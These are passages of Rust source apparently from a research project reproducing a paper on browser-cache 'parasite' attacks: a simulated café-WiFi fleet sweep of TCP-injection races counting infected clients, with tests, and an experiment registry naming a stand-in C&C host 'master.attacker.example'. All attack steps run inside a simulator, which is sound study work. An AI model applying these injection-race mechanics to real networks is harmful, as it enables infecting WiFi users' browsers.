                    day.exposed,
                    day.newly_infected,
                    day.infected,
                    if self.clients == 0 {
                        0.0
                    } else {
                        day.infected as f64 / self.clients as f64 * 100.0
                    },
                ));
            }
        }
        out
    }

    fn render_summary(&self) -> String {
        format!(
            "Campaign - population-scale cafe-AP fleet sweep\n\
             seed-sweep shards:        {:>10}\n\
             access points:            {:>10}\n\
             simulated clients:        {:>10}\n\
             infected clients:         {:>10}  ({:.1} %)\n\
             clean clients:            {:>10}\n\
             failed APs:               {:>10}\n\
             simulator events:         {:>10}\n\
             payload bytes:            {:>10}\n\
             injected responses:       {:>10}\n\
             pending bytes dropped:    {:>10}\n",
            self.shards,
            self.aps,
            self.clients,
            self.infected_clients,
            self.infection_rate() * 100.0,
            self.clean_clients,
            self.failed_aps,
            self.total_events,
            self.payload_bytes,
            self.injected_events,
            self.pending_bytes_dropped,
        )
    }
}

impl ToJson for CampaignFleetResult {
    fn to_json(&self) -> Json {
        let mut pairs = vec![
            ("shards", self.shards.to_json()),
            ("aps", self.aps.to_json()),
            ("clients", self.clients.to_json()),
            ("infected_clients", self.infected_clients.to_json()),
            ("clean_clients", self.clean_clients.to_json()),
            ("failed_aps", self.failed_aps.to_json()),
            ("infection_rate", self.infection_rate().to_json()),
            ("total_events", self.total_events.to_json()),
            ("payload_bytes", self.payload_bytes.to_json()),
            ("injected_events", self.injected_events.to_json()),
            ("pending_bytes_dropped", self.pending_bytes_dropped.to_json()),
        ];
        // Only multi-day campaigns carry a day table; the classic artifact's
        // JSON stays byte-identical.
        if !self.day_stats.is_empty() {
            pairs.push(("days", self.day_stats.to_json()));
        }
        Json::obj(pairs)
    }
}

/// One AP's share of the fleet.
pub(super) struct ApTask {
    pub(super) seed: u64,
    pub(super) clients: usize,
    /// Heterogeneous per-AP profile; `None` runs the paper's uniform
    /// Figure 2 timing.
    pub(super) profile: Option<ApProfile>,
}

/// Aggregate outcome of one AP simulation.
pub(super) struct ApOutcome {
    pub(super) infected: usize,
    pub(super) clean: usize,
    pub(super) events: u64,
    pub(super) payload_bytes: u64,
    pub(super) injected_events: u64,
    pub(super) pending_bytes_dropped: u64,
    /// Per-client infection outcome by local index; only filled when the
    /// caller asked for flags (the multi-day loop maps them back to campaign
    /// slots), empty otherwise.
    pub(super) infected_flags: Vec<bool>,
}

/// SplitMix64 finaliser, used to derive well-mixed per-AP, per-shard and
/// per-day seed streams from `(campaign_seed, stream ^ index)`.
pub(super) fn mix_seed(seed: u64, index: u64) -> u64 {
    let mut z = seed.wrapping_add(index.wrapping_mul(0x9e3779b97f4a7c15));
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

/// Every eighth client asks for an object the master has *not* prepared, so
/// the fleet exercises both the winning race and the passthrough path. The
/// multi-day loop applies the same trait per campaign *slot*, so a seat keeps
/// its browsing habit across churn.
pub(super) fn requests_unprepared_object(client_index: usize) -> bool {
    client_index % 8 == 7
}

/// Simulates one café AP: `task.clients` victims joining the shared-WiFi
/// race world of [`build_race_world`] (the exact Figure 2 / Table II
/// topology and timing, or the AP's heterogeneous profile), with an
/// always-bounded `SummaryOnly` trace. `unprepared(index)` decides which
/// clients ask for an object the master has not prepared; `record_flags`
/// fills [`ApOutcome::infected_flags`] with the per-client outcome.
pub(super) fn simulate_ap_with(
    task: &ApTask,
    config: &RunConfig,
    shared: Option<&SharedBudget>,
    unprepared: &(dyn Fn(usize) -> bool + Sync),
    record_flags: bool,
) -> Result<ApOutcome, NetError> {
    let timing = task.profile.map(|p| p.timing()).unwrap_or(RaceTiming::PAPER);
    let jitter_us = config.jitter_us + task.profile.map(|p| p.jitter_us).unwrap_or(0);
    let RaceWorld {
        mut sim,
        wifi,
        server,
        target,
    } = build_race_world(task.seed, &timing, config.event_budget, TraceMode::SummaryOnly, shared);
    if jitter_us > 0 {
        sim.set_medium_jitter(wifi, SimDuration::from_micros(jitter_us));
    }

    let other = Url::parse("http://somesite.com/weather.js").expect("static url");
    let mut connections = Vec::with_capacity(task.clients);
    for index in 0..task.clients {
        let ip = IpAddr::new(10, (index >> 8) as u8, (index & 0xff) as u8, 2);
        let client = sim.add_host("client", ip, wifi);
        let conn = sim.connect(client, server, 80)?;
        let url = if unprepared(index) { &other } else { &target };
        sim.send(client, conn, &Request::get(url.clone()).to_wire())?;
        connections.push((client, conn));
    }
    sim.run_until_idle()?;

    let mut infected = 0usize;
    let mut clean = 0usize;
    let mut infected_flags = Vec::new();
    if record_flags {
        infected_flags.reserve(connections.len());
    }
    for (client, conn) in connections {
        let delivered = sim.received(client, conn);
        let got_parasite = Response::from_wire(&delivered)
            .ok()
            .map(|r| Parasite::detect(&r.body.as_text()).is_some())
            .unwrap_or(false);
        if got_parasite {
            infected += 1;
        } else {
            clean += 1;
        }
        if record_flags {
            infected_flags.push(got_parasite);
        }
    }

    let summary = *sim.trace().summary();
    Ok(ApOutcome {
        infected,
        clean,
        events: sim.events_processed(),
        payload_bytes: summary.payload_bytes,
        injected_events: summary.injected_events,
        pending_bytes_dropped: summary.pending_bytes_dropped,
        infected_flags,
    })
}

/// The classic single-snapshot AP simulation: every eighth client asks for an
/// unprepared object, no per-client flags.
fn simulate_ap(
    task: &ApTask,
    config: &RunConfig,
    shared: Option<&SharedBudget>,
) -> Result<ApOutcome, NetError> {
    simulate_ap_with(task, config, shared, &requests_unprepared_object, false)
}

/// Divides `total` into `parts` nearly equal slices (earlier slices take the
/// remainder). Shared with the shard planner (`distrib`), so coordinator
/// range splits and seed-sweep shard splits agree.
pub(super) fn share(total: usize, parts: usize, index: usize) -> usize {
    total / parts + usize::from(index < total % parts)
}

/// Runs the campaign fleet. `fleet_days > 1` enters the multi-day churn loop
/// (see the `multiday` module); otherwise: unsharded for `fleet_shards <= 1`,
/// or a seed-sweep of independent shard runs (each its own registry task,
/// exactly as a `run_many` sweep would schedule them) whose trace summaries
/// and infection counts are merged into one artifact in shard order. Under
/// `fleet_hetero` the fleet's profiles are pinned to global AP indices, so
/// sharding becomes a scheduling hint: every number in the artifact matches
/// the unsharded run (only the reported `shards` field echoes the request).
pub(super) fn campaign_fleet(
    config: &RunConfig,
    ctx: &RunCtx,
) -> Result<CampaignFleetResult, ExperimentError> {
    if config.fleet_days > 1 {
        return super::multiday::run_multiday(config, ctx, None);
    }
    let shards = config.fleet_shards.max(1);
    if shards == 1 {
        return campaign_fleet_shard(config, ctx.budget_for(config).as_ref());
    }
    // Never more shards than APs: every shard needs at least one simulation.
    let shards = shards.min(config.fleet_aps.max(1));
    if config.fleet_hetero {
        // Heterogeneity pins profiles and client weights to *global* AP
        // indices under the campaign seed; slicing the fleet into seed-sweep
        // shards would redraw a different fleet per shard count. Run the
        // global plan directly (the per-AP sweep already parallelises) and
        // report the shard count as a scheduling hint — the artifact is
        // byte-identical across shard counts, like the multi-day loop.
        let mut result = campaign_fleet_shard(config, ctx.budget_for(config).as_ref())?;
        result.shards = shards;
        return Ok(result);
    }
    let shard_configs: Vec<RunConfig> = (0..shards)
        .map(|index| RunConfig {
            // A distinct, well-mixed seed stream per shard: a splitmix-style
            // hash of (campaign_seed, shard_index) under its own stream tag,
            // so shard seeds can collide neither with each other nor with the
            // unsharded run's per-AP seeds (`mix_seed(seed, ap_index)`).
            seed: mix_seed(config.seed, SHARD_TAG ^ index as u64),
            fleet_clients: share(config.fleet_clients, shards, index),
            fleet_aps: share(config.fleet_aps.max(1), shards, index),
            fleet_shards: 1,
            // Shards already run in parallel; keep each shard's AP sweep
            // sequential so the machine is not oversubscribed.
            fleet_jobs: 1,
            ..*config
        })
        .collect();

    let jobs = if config.fleet_jobs == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        config.fleet_jobs
    }
    .min(shards);
    let experiment = Registry::get(ExperimentId::CampaignFleet);
    // One shared budget pool (when requested) spans every shard of the sweep.
    let shard_ctx = RunCtx {
        shared_budget: ctx.budget_for(config),
        cancel: ctx.cancel.clone(),
        day_sink: None,
    };
    let outcomes = parallel_tasks(&shard_configs, jobs, |shard| {
        experiment.try_run_ctx(shard, &shard_ctx)
    });

    let mut merged = CampaignFleetResult {
        shards,
        aps: 0,
        clients: config.fleet_clients,
        infected_clients: 0,
        clean_clients: 0,
        failed_aps: 0,
        total_events: 0,
        payload_bytes: 0,
        injected_events: 0,
        pending_bytes_dropped: 0,
        day_stats: Vec::new(),
    };
    let mut failed_shards = 0usize;
    let mut first_error: Option<ExperimentError> = None;
    for (outcome, shard_config) in outcomes.into_iter().zip(&shard_configs) {
        let shard_result = match outcome {
            Ok(artifact) => artifact.data.as_campaign_fleet().cloned(),
            Err(error) => {
                first_error.get_or_insert(error);
                None
            }
        };
        match shard_result {
            Some(shard) => {
                merged.aps += shard.aps;
                merged.infected_clients += shard.infected_clients;
                merged.clean_clients += shard.clean_clients;
                merged.failed_aps += shard.failed_aps;
                merged.total_events += shard.total_events;
                merged.payload_bytes += shard.payload_bytes;
                merged.injected_events += shard.injected_events;
                merged.pending_bytes_dropped += shard.pending_bytes_dropped;
            }
            None => {
                // A shard that failed outright contributes its APs as failed;
                // its clients count as neither infected nor clean.
                merged.aps += shard_config.fleet_aps;
                merged.failed_aps += shard_config.fleet_aps;
                failed_shards += 1;
            }
        }
    }
    if failed_shards == shards {
        // Every shard failed: surface the first shard's *actual* error (e.g.
        // an overpacked-AP Config error), not a synthesized budget failure.
        return Err(first_error.unwrap_or(ExperimentError::Net(
            NetError::EventBudgetExhausted {
                budget: config.event_budget,
            },
        )));
    }
    // A drained global pool means part of the fleet starved: fail the whole
    // run with the typed error instead of reporting a silently-short merge.
    if let Some(shared) = &shard_ctx.shared_budget {
        if merged.failed_aps > 0 && shared.exhausted() {
            return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
                budget: shared.total(),
            }));
        }
    }
    Ok(merged)
}

/// Plans one shard's AP tasks: seeds (derived from `sim_seed`, which the
/// multi-day loop varies per day), per-AP client counts (uniform, or
/// weight-distributed when heterogeneity is on) and profiles (always drawn
/// from the campaign seed, so an AP keeps its character across days). Shared
/// between the single-snapshot shard and the multi-day exposure loop.
pub(super) fn plan_ap_tasks(
    config: &RunConfig,
    sim_seed: u64,
    total_clients: usize,
) -> Result<Vec<ApTask>, ExperimentError> {
    let aps = config.fleet_aps.max(1);
    let profiles: Option<Vec<ApProfile>> = config
        .fleet_hetero
        .then(|| (0..aps).map(|index| ApProfile::for_ap(config.seed, index)).collect());
    let counts: Vec<usize> = match &profiles {
        Some(profiles) => distribute_by_weight(
            total_clients,
            &profiles.iter().map(|p| p.client_weight).collect::<Vec<u64>>(),
        ),
        None => {
            let base = total_clients / aps;
            let remainder = total_clients % aps;
            (0..aps).map(|index| base + usize::from(index < remainder)).collect()
        }
    };
    let largest_ap = counts.iter().copied().max().unwrap_or(0);
    if largest_ap > MAX_CLIENTS_PER_AP {
        return Err(ExperimentError::Config(format!(
            "{total_clients} clients over {aps} APs puts {largest_ap} on one AP; \
             one AP holds at most {MAX_CLIENTS_PER_AP} — raise fleet_aps"
        )));
    }
    Ok(counts
        .into_iter()
        .enumerate()
        .map(|(index, clients)| ApTask {
            seed: mix_seed(sim_seed, index as u64),
            clients,
            profile: profiles.as_ref().map(|p| p[index]),
        })
        .collect())
}

/// Resolves the worker-thread count for a fleet sweep of `tasks` tasks.
pub(super) fn fleet_jobs(config: &RunConfig, tasks: usize) -> usize {
    if config.fleet_jobs == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        config.fleet_jobs
    }
    .min(tasks.max(1))
}

/// Runs one (unsharded) fleet shard: `config.fleet_clients` clients spread
/// over `config.fleet_aps` independent AP simulations executed on scoped
/// worker threads, aggregated deterministically in AP order.
fn campaign_fleet_shard(
    config: &RunConfig,
    shared: Option<&SharedBudget>,
) -> Result<CampaignFleetResult, ExperimentError> {
    let aps = config.fleet_aps.max(1);
    let total_clients = config.fleet_clients;
    let tasks = plan_ap_tasks(config, config.seed, total_clients)?;

    let jobs = fleet_jobs(config, aps);
    let outcomes = parallel_tasks(&tasks, jobs, |task| simulate_ap(task, config, shared));

    let mut result = CampaignFleetResult {
        shards: 1,
        aps,
        clients: total_clients,
        infected_clients: 0,
        clean_clients: 0,
        failed_aps: 0,
        total_events: 0,
        payload_bytes: 0,
        injected_events: 0,
        pending_bytes_dropped: 0,
        day_stats: Vec::new(),
    };
    for outcome in outcomes {
        match outcome {
            Ok(ap) => {
                result.infected_clients += ap.infected;
                result.clean_clients += ap.clean;
                result.total_events += ap.events;
                result.payload_bytes += ap.payload_bytes;
                result.injected_events += ap.injected_events;
                result.pending_bytes_dropped += ap.pending_bytes_dropped;
            }
            Err(_) => result.failed_aps += 1,
        }
    }
    // A fleet where every single AP failed is a configuration error worth
    // surfacing as such, not an all-zero artifact.
    if result.failed_aps == aps {
        return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
            budget: shared.map(SharedBudget::total).unwrap_or(config.event_budget),
        }));
    }
    Ok(result)
}

#[cfg(test)]
mod tests {
    use super::super::{ExperimentId, Registry};
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn shard_seed_streams_cannot_collide_with_each_other_or_with_ap_seeds() {
        // The splitmix-derived streams must be pairwise disjoint for any
        // realistic campaign. The stream families are swept from
        // SEED_TAG_REGISTRY — the same source of truth the mp-lint seed-tag
        // rule extracts statically — so a tag added anywhere in the
        // workspace is collision-checked here without editing this test.
        // The old additive offsets collided as soon as offsets overlapped;
        // hashed streams do not.
        use super::super::distrib::SEAT_TAG;
        use super::super::multiday::DAY_TAG;
        use super::super::surface::{cell_tag, ADOPT_TAG, SURFACE_TAG};
        use super::super::SEED_TAG_REGISTRY;
        let mut seen = HashSet::new();
        let mut expected = 0usize;
        for campaign_seed in [0u64, 1, 2021, u64::MAX] {
            // First generation: the untagged per-AP stream plus every
            // registered tag stream, over a realistic index range.
            for index in 0..512u64 {
                seen.insert(mix_seed(campaign_seed, index));
                expected += 1;
                for (_name, tag) in SEED_TAG_REGISTRY {
                    seen.insert(mix_seed(campaign_seed, tag ^ index));
                    expected += 1;
                }
            }
            // The per-day streams derive a second generation of seeds: each
            // day's seed (covered by the DAY_TAG sweep above) feeds
            // per-(day, AP) seat streams (SEAT_TAG) and per-(day, AP)
            // simulation seeds (untagged). All of them must stay disjoint
            // from each other and from the first generation.
            for day in 1..=8u64 {
                let day_seed = mix_seed(campaign_seed, DAY_TAG ^ day);
                for ap in 0..64u64 {
                    seen.insert(mix_seed(day_seed, SEAT_TAG ^ ap));
                    seen.insert(mix_seed(day_seed, ap));
                    expected += 2;
                }
            }
            // Surface grid cells use packed (vector, delay, wan, jitter)
            // coordinates; sweep a grid larger than any realistic run.
            // Cells whose packed tag is below 512 are already covered by
            // the registry index sweep.
            for vector in 0..4usize {
                for delay in 0..16usize {
                    for wan in 0..4usize {
                        for jitter in 0..2usize {
                            let tag = cell_tag(vector, delay, wan, jitter);
                            if tag < 512 {
                                continue;
                            }
                            seen.insert(mix_seed(campaign_seed, SURFACE_TAG ^ tag));
                            seen.insert(mix_seed(campaign_seed, ADOPT_TAG ^ tag));
                            expected += 2;
                        }
                    }
                }
            }
        }
        assert_eq!(seen.len(), expected, "all derived seeds pairwise distinct");
    }

    #[test]
    fn sharded_and_unsharded_fleets_agree_on_the_logical_population() {
        // Same logical population, different shard split: the infection
        // complement and the workload counters must agree. Event and payload
        // counts are linear in per-AP client counts, and the uniform split
        // gives both runs the same per-AP count multiset, so the summaries
        // agree exactly even though the seed streams differ.
        let config = RunConfig {
            seed: 11,
            fleet_clients: 1_024,
            fleet_aps: 8,
            fleet_jobs: 1,
            ..RunConfig::default()
        };
        let unsharded = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let unsharded = unsharded.data.as_campaign_fleet().expect("campaign artifact");
        for shards in [2usize, 4, 8] {
            let sharded = Registry::get(ExperimentId::CampaignFleet)
                .run(&RunConfig { fleet_shards: shards, ..config });
            let sharded = sharded.data.as_campaign_fleet().expect("campaign artifact");
            assert_eq!(sharded.shards, shards);
            assert_eq!(sharded.aps, unsharded.aps);
            assert_eq!(sharded.clients, unsharded.clients);
            assert_eq!(sharded.infected_clients, unsharded.infected_clients);
            assert_eq!(sharded.clean_clients, unsharded.clean_clients);
            assert_eq!(sharded.failed_aps, 0);
            assert_eq!(sharded.total_events, unsharded.total_events);
            assert_eq!(sharded.payload_bytes, unsharded.payload_bytes);
            assert_eq!(sharded.injected_events, unsharded.injected_events);
        }
    }

    #[test]
    fn heterogeneous_fleet_is_byte_identical_across_shard_counts() {
        // Profiles and weights are pinned to global AP indices, so sharding
        // a heterogeneous fleet is a scheduling hint: everything but the
        // reported shard count must match the unsharded run exactly.
        let config = RunConfig {
            seed: 11,
            fleet_clients: 1_024,
            fleet_aps: 8,
            fleet_hetero: true,
            fleet_jobs: 1,
            ..RunConfig::default()
        };
        let unsharded = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let unsharded = unsharded.data.as_campaign_fleet().expect("campaign artifact");
        let sharded = Registry::get(ExperimentId::CampaignFleet)
            .run(&RunConfig { fleet_shards: 4, ..config });
        let sharded = sharded.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(sharded.shards, 4);
        assert_eq!(
            CampaignFleetResult { shards: 1, ..sharded.clone() },
            *unsharded,
            "same global plan regardless of shard count"
        );
    }

    #[test]
    fn distribute_by_weight_conserves_and_follows_weights() {
        let counts = distribute_by_weight(1_000, &[1, 1, 1, 1]);
        assert_eq!(counts, vec![250, 250, 250, 250]);
        let counts = distribute_by_weight(1_000, &[1, 3]);
        assert_eq!(counts.iter().sum::<usize>(), 1_000);
        assert_eq!(counts, vec![250, 750]);
        // Remainders land deterministically (largest remainder, then index).
        let counts = distribute_by_weight(10, &[1, 1, 1]);
        assert_eq!(counts.iter().sum::<usize>(), 10);
        assert_eq!(counts, vec![4, 3, 3]);
        // Zero weights are clamped to one instead of dividing by zero.
        let counts = distribute_by_weight(9, &[0, 0, 0]);
        assert_eq!(counts.iter().sum::<usize>(), 9);
    }

    #[test]
    fn ap_profiles_are_deterministic_and_heterogeneous() {
        let first = ApProfile::for_ap(2021, 3);
        assert_eq!(first, ApProfile::for_ap(2021, 3));
        // Across a fleet, the draws actually vary.
        let profiles: Vec<ApProfile> = (0..32).map(|ap| ApProfile::for_ap(2021, ap)).collect();
        let wifi: HashSet<u64> = profiles.iter().map(|p| p.wifi_latency_us).collect();
        assert!(wifi.len() > 8, "32 APs should draw many distinct WiFi latencies");
        for profile in &profiles {
            assert!((800..=8_000).contains(&profile.wifi_latency_us));
            assert!((5_000..=120_000).contains(&profile.wan_latency_us));
            assert!((150..=15_000).contains(&profile.attacker_reaction_us));
            assert!((1..=4).contains(&profile.client_weight));
        }
    }

    #[test]
    fn a_slow_master_behind_a_fast_wan_loses_the_race() {
        // The heterogeneity point: outcomes change, not just timestamps. A
        // master that needs 30 ms to forge a response while the genuine
        // server answers over a 5 ms WAN never wins the injection race.
        let slow_master = ApProfile {
            attacker_reaction_us: 30_000,
            wifi_latency_us: 2_000,
            wan_latency_us: 5_000,
            jitter_us: 0,
            client_weight: 1,
        };
        let task = ApTask { seed: 42, clients: 16, profile: Some(slow_master) };
        let config = RunConfig::default();
        let outcome = simulate_ap_with(&task, &config, None, &requests_unprepared_object, true)
            .expect("simulation completes");
        assert_eq!(outcome.infected, 0, "the genuine response always arrives first");
        assert_eq!(outcome.clean, 16);
        assert!(outcome.infected_flags.iter().all(|&flag| !flag));

        // The paper's timing, for contrast, wins for every prepared request.
        let paper = ApTask { seed: 42, clients: 16, profile: None };
        let outcome = simulate_ap_with(&paper, &config, None, &requests_unprepared_object, true)
            .expect("simulation completes");
        assert_eq!(outcome.infected, 14, "every prepared request is infected");
        assert_eq!(outcome.clean, 2);
    }
}
