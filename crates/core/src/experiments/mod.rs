//! The experiment layer: one [`Experiment`] per table and figure of the paper.
//!
//! Every artefact of the evaluation — Tables I–V, Figures 1–5 and the §VIII
//! defence ablation — is reproduced by an experiment implementing the
//! [`Experiment`] trait: `id()` names it with an [`ExperimentId`] and
//! `try_run(&RunConfig)` produces an [`Artifact`] carrying the structured
//! result plus uniform text ([`Artifact::render_text`]) and JSON
//! ([`Artifact::to_json`]) output, or a typed [`ExperimentError`] (e.g. an
//! exhausted event budget). [`Registry::all`] enumerates the paper's eleven
//! experiments, [`Registry::extended`] adds the population-scale
//! [`ExperimentId::CampaignFleet`] sweep, and [`run_many`] /
//! [`try_run_many`] execute id × config sweeps on a thread pool —
//! `try_run_many` isolates each task, so one failing scenario reports its
//! error without aborting its siblings.
//!
//! ```rust
//! use parasite::experiments::{ExperimentId, Registry, RunConfig};
//! use parasite::json::ToJson;
//!
//! // Regenerate Table III (refresh methods vs Cache-API parasites).
//! let artifact = Registry::get(ExperimentId::Table3).run(&RunConfig::default());
//! assert!(artifact.render_text().contains("clear cookies"));
//! assert!(artifact.to_json().to_string().contains("clear_cookies"));
//! ```

mod campaign;
mod distrib;
mod faults;
mod figures;
mod multiday;
mod surface;
mod tables;

pub use campaign::{ApProfile, CampaignFleetResult};
pub use distrib::{
    run_campaign_shard, scan_journal, write_journal_entry, JournalScan, ShardOutcome, ShardPlan,
};
pub use faults::{FaultKind, FaultPlan, FAULT_DIR_ENV, FAULT_PLAN_ENV};
pub use multiday::{
    run_campaign_with_checkpoint, run_campaign_with_checkpoint_ctx, DayStats,
};
pub use surface::{CurvePoint, SurfaceResult, SurfaceVector, VectorSurface};
pub use figures::{AblationResult, Fig3Result, Fig4Result, Fig5Result, FlowTrace};
pub use tables::{
    injection_race_with_timing, run_injection_race, InjectionCell, RefreshMethod, RemovalCell,
    Table1Result, Table2Result, Table3Result, Table4Result, Table4Row, Table5Result,
};

use crate::infect::Infector;
use crate::json::{Json, ToJson};
use crate::script::Parasite;
use mp_netsim::capture::TraceMode;
use mp_netsim::error::NetError;
use mp_netsim::sim::SharedBudget;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::str::FromStr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// The C&C host used by all experiments.
pub const MASTER_HOST: &str = "master.attacker.example";

/// The seed-tag registry: every splitmix stream-family tag in the workspace,
/// by name and value.
///
/// Deterministic replay derives each independent RNG stream as
/// `mix_seed(seed, TAG ^ index)`; for the streams to be provably disjoint,
/// every tag must be a u64 whose top 16 bits (its *lane*) are unique. This
/// constant is the runtime's single source of truth: the collision test in
/// `campaign.rs` sweeps it, `mp-lint`'s `seed-tag` rule extracts the same
/// constants statically and its workspace test asserts the two views agree,
/// and `paper-report lint --json` emits the registry for external tooling.
pub const SEED_TAG_REGISTRY: &[(&str, u64)] = &[
    ("SURFACE_TAG", surface::SURFACE_TAG),
    ("ADOPT_TAG", surface::ADOPT_TAG),
    ("PROFILE_TAG", campaign::PROFILE_TAG),
    ("SHARD_TAG", campaign::SHARD_TAG),
    ("SEAT_TAG", distrib::SEAT_TAG),
    ("DAY_TAG", multiday::DAY_TAG),
    ("TARGET_TAG", multiday::TARGET_TAG),
    ("VISIT_TAG", multiday::VISIT_TAG),
    ("GARBLE_TAG", faults::GARBLE_TAG),
];

pub(crate) fn standard_infector() -> Infector {
    Infector::new(Parasite::standard(MASTER_HOST))
}

// ---------------------------------------------------------------------------
// Experiment identifiers
// ---------------------------------------------------------------------------

/// Identifier of one of the paper's eleven experiments, or of an extension
/// experiment that goes beyond the paper (currently
/// [`ExperimentId::CampaignFleet`] and [`ExperimentId::AttackSurface`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ExperimentId {
    /// Table I — cache eviction on popular browsers.
    Table1,
    /// Table II — TCP injection evaluation.
    Table2,
    /// Table III — refresh methods vs Cache-API parasites.
    Table3,
    /// Table IV — caches in the wild.
    Table4,
    /// Table V — attacks against applications.
    Table5,
    /// Figure 1 — cache eviction message flow.
    Fig1,
    /// Figure 2 — cache infection message flow.
    Fig2,
    /// Figure 3 — object persistency measurement.
    Fig3,
    /// Figure 4 — C&C channel characterisation.
    Fig4,
    /// Figure 5 — CSP / HSTS / TLS measurement.
    Fig5,
    /// §VIII — defence ablation.
    Ablation,
    /// Extension — population-scale café-AP fleet sweep (not a paper
    /// artefact; it scales the Figure 2 race world to ~100k clients).
    CampaignFleet,
    /// Extension — attack-surface probability sweep over (attack vector ×
    /// master reaction latency × jitter × defense adoption), mapping the
    /// paper's race and §VIII defense matrix into figure-style curves.
    AttackSurface,
}

impl ExperimentId {
    /// The paper's eleven experiments, in the paper's order. The default
    /// `paper-report` runs exactly these, so the classic report stays
    /// byte-identical; extension experiments are opt-in via `--only`.
    pub const ALL: [ExperimentId; 11] = [
        ExperimentId::Table1,
        ExperimentId::Table2,
        ExperimentId::Table3,
        ExperimentId::Table4,
        ExperimentId::Table5,
        ExperimentId::Fig1,
        ExperimentId::Fig2,
        ExperimentId::Fig3,
        ExperimentId::Fig4,
        ExperimentId::Fig5,
        ExperimentId::Ablation,
    ];

    /// Every registered experiment: the paper's eleven plus the extensions.
    pub const EXTENDED: [ExperimentId; 13] = [
        ExperimentId::Table1,
        ExperimentId::Table2,
        ExperimentId::Table3,
        ExperimentId::Table4,
        ExperimentId::Table5,
        ExperimentId::Fig1,
        ExperimentId::Fig2,
        ExperimentId::Fig3,
        ExperimentId::Fig4,
        ExperimentId::Fig5,
        ExperimentId::Ablation,
        ExperimentId::CampaignFleet,
        ExperimentId::AttackSurface,
    ];

    /// The canonical id string (what [`fmt::Display`] prints and
    /// [`FromStr`] parses).
    pub fn as_str(&self) -> &'static str {
        match self {
            ExperimentId::Table1 => "table1",
            ExperimentId::Table2 => "table2",
            ExperimentId::Table3 => "table3",
            ExperimentId::Table4 => "table4",
            ExperimentId::Table5 => "table5",
            ExperimentId::Fig1 => "fig1",
            ExperimentId::Fig2 => "fig2",
            ExperimentId::Fig3 => "fig3",
            ExperimentId::Fig4 => "fig4",
            ExperimentId::Fig5 => "fig5",
            ExperimentId::Ablation => "ablation",
            ExperimentId::CampaignFleet => "campaign_fleet",
            ExperimentId::AttackSurface => "attack_surface",
        }
    }

    /// The artefact title, matching the paper's section.
    pub fn title(&self) -> &'static str {
        match self {
            ExperimentId::Table1 => "Table I - cache eviction on popular browsers",
            ExperimentId::Table2 => "Table II - TCP injection evaluation",
            ExperimentId::Table3 => "Table III - refresh methods vs Cache-API parasites",
            ExperimentId::Table4 => "Table IV - caches in the wild",
            ExperimentId::Table5 => "Table V - attacks against applications",
            ExperimentId::Fig1 => "Figure 1 - cache eviction message flow",
            ExperimentId::Fig2 => "Figure 2 - cache infection message flow",
            ExperimentId::Fig3 => "Figure 3 - object persistency",
            ExperimentId::Fig4 => "Figure 4 - C&C channel characterisation",
            ExperimentId::Fig5 => "Figure 5 - CSP / HSTS / TLS measurement",
            ExperimentId::Ablation => "Countermeasure ablation (SVIII)",
            ExperimentId::CampaignFleet => "Campaign - population-scale cafe-AP fleet sweep",
            ExperimentId::AttackSurface => "Attack surface - race x defense probability sweep",
        }
    }
}

impl fmt::Display for ExperimentId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Error returned when parsing an unknown experiment id.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseExperimentIdError {
    /// The string that did not match any experiment.
    pub input: String,
}

impl fmt::Display for ParseExperimentIdError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "unknown experiment id {:?} (expected one of: {})",
            self.input,
            ExperimentId::EXTENDED.map(|id| id.as_str()).join(", ")
        )
    }
}

impl std::error::Error for ParseExperimentIdError {}

impl FromStr for ExperimentId {
    type Err = ParseExperimentIdError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let needle = s.trim().to_ascii_lowercase();
        ExperimentId::EXTENDED
            .into_iter()
            .find(|id| id.as_str() == needle)
            .ok_or_else(|| ParseExperimentIdError {
                input: s.to_string(),
            })
    }
}

// ---------------------------------------------------------------------------
// Run configuration
// ---------------------------------------------------------------------------

/// Uniform configuration for every experiment, replacing the bespoke
/// positional arguments of the former free-function runners. Unused fields
/// are ignored by experiments that do not need them.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct RunConfig {
    /// RNG seed for population generation and packet-level races.
    pub seed: u64,
    /// Cache-size divisor for the Table I eviction runs (bigger is faster).
    pub scale: u64,
    /// Population size for the Figure 5 policy scan.
    pub sites: usize,
    /// Population size for the Figure 3 persistency crawl.
    pub crawl_sites: usize,
    /// Length of the Figure 3 measurement period in days.
    pub days: u32,
    /// Event budget per packet-level simulation (see
    /// [`mp_netsim::sim::Simulator::with_event_budget`]).
    pub event_budget: u64,
    /// Trace recorder mode for packet-level simulations: `Full` retains every
    /// transmission (the classic behaviour, required by the Figure 2 flow),
    /// `Ring(n)` bounds memory to the most recent *n*, `SummaryOnly` keeps
    /// counters only.
    pub trace_mode: TraceMode,
    /// Maximum per-packet WiFi jitter in microseconds for the campaign fleet
    /// sweep (drawn from the seeded RNG; zero disables jitter).
    pub jitter_us: u64,
    /// Total simulated clients across the campaign fleet sweep.
    pub fleet_clients: usize,
    /// Number of café access points the fleet's clients are spread over (one
    /// packet-level simulation per AP).
    pub fleet_aps: usize,
    /// Number of seed-sweep shards the campaign fleet is split across. Each
    /// shard runs its slice of clients and APs as an independent
    /// [`run_many`]-style task under a derived seed, and the per-shard trace
    /// summaries are merged into one artifact. `1` (the default, and anything
    /// below) runs unsharded.
    pub fleet_shards: usize,
